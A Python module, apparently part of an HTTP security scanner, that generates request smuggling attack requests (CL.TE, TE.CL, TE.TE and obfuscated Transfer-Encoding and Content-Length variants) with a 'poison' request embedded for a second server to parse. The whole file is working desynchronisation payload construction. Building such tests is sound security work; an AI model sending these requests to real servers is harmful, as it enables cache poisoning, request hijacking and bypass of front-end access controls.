"""The request smuggling variants of `vectors/smuggling.json`, spelled out as bytes.

Each variant is tried in the ways that the tools try it: alone, and beside another length that a
second reader could believe. What such a reader would take for a request of its own is the poison.
"""

import dataclasses
import json
import os

FILE = os.path.join(os.path.dirname(__file__), "..", "vectors", "smuggling.json")


@dataclasses.dataclass(frozen=True)
class Variant:
    """One way to spell a length; `behind` is what follows Host in the head, `body` the rest."""

    name: str
    method: str
    behind: bytes
    body: bytes

    def request(self, target, fields):
        """The bytes of the attack; `fields` are the lines that an honest client would send."""
        line = f"{self.method} {target} HTTP/1.1\r\n".encode()
        return line + fields + self.behind + b"\r\n" + self.body


def variants(poison):
    """Every variant with `poison` in the place where a second reader would find a request."""
    with open(FILE, encoding="ascii") as file:
        facts = json.load(file)
    yield from _coding_variants(facts["transfer_encoding"], poison)
    yield from _length_variants(facts["content_length"], poison)
    for row in facts["chunks"]:
        body = row["body"].encode("latin-1").replace(b"{poison}", poison)
        yield Variant(f"chunks {row['name']}", "POST", b"Transfer-Encoding: chunked\r\n", body)


def _coding_variants(rows, poison):
    chunk = b"%x\r\n" % len(poison)
    whole = chunk + poison + b"\r\n0\r\n\r\n"
    for name, lines in _expanded(rows):
        behind_end = b"0\r\n\r\n" + poison
        yield Variant(f"TE {name}", "POST", lines, b"5\r\nhello\r\n" + behind_end)
        yield Variant(f"CL.TE {name}", "POST", lines + _length(len(behind_end)), behind_end)
        yield Variant(f"TE.CL {name}", "POST", _length(len(chunk)) + lines, whole)
        yield Variant(f"TE.TE {name}", "POST", b"Transfer-Encoding: chunked\r\n" + lines, whole)


def _length_variants(rows, poison):
    for name, lines in _expanded(rows):
        stated = lines.replace(b"{length}", b"%d" % len(poison))
        yield Variant(name, "POST", stated, poison)
        yield Variant(f"{name} with GET", "GET", stated, poison)


def _expanded(rows):
    for row in rows:
        lines = row["lines"].encode("latin-1")
        for digits in row.get("bytes", "").split():
            yield f"{row['name']}-{digits}", lines.replace(b"{byte}", bytes.fromhex(digits))
        if "bytes" not in row:
            yield row["name"], lines


def _length(count):
    return b"Content-Length: %d\r\n" % count
